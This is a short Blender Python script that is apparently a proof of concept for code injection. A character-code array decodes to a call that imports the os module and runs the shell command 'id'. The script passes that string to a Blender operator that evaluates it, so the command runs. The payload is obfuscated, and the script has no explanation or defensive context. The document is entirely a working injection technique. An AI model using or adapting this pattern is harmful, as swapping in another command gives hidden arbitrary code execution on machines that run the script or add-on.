import bpy
payload = "".join(map(chr, [95,95,105,109,112,111,114,116,95,95,40,39,111,115,39,41,46,115,121,115,116,101,109,40,39,105,100,39,41]))
bpy.ops.WM.context_set_value(data_path="scene.frame_current", value=payload)
